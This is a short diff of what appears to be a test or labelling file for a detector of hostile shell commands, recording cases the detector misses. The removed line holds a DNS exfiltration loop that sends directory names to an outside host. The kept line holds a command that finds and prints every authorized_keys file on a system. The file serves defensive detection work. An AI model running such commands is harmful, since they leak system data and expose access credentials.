@@ -444,8 +444,6 @@ def unmet(reason: str, *commands: str) -> None:
     UNMET.update(dict.fromkeys(commands, reason))
 
 
-unmet("a command's output in a DNS name is caught for cat of a file, not for a loop over ls",
-      "for i in $(ls /) ; do host \"$i.3a43c7e4e57a8d0e2057.d.zhack.ca\"; done")
 unmet("our label, wrong in substance: authorized_keys holds public keys, which no secret pattern names "
       "(rightly); the note's \"every private key printed\" does not hold for it",
       "find / -name authorized_keys 2> /dev/null | xargs cat")
